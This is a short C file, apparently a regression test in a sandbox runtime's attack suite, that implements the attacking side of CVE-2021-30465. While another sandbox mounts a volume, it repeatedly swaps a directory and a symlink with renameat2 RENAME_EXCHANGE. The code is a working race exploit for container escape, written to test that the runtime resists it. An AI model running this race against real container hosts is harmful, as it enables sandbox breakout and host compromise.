/* CVE-2021-30465, the attacking side: exchanges a directory and a symlink on a volume that another
 * sandbox is just mounting into (argv[1] and argv[2]), until stdin ends. */
#include "tests/attacks/attack.h"

#include <poll.h>

int main(int argc, char **argv)
{
    struct pollfd end = {.fd = STDIN_FILENO, .events = POLLIN};
    long flips = 0;

    if (argc < 3)
        skip("two names are needed");
    do {
        for (int i = 0; i < 64; i++, flips++)
            if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0)
                skip("renameat2: %s", strerror(errno));
        if (flips == 64)
            note("flipping");
    } while (poll(&end, 1, 0) == 0);
    return verdict();
}
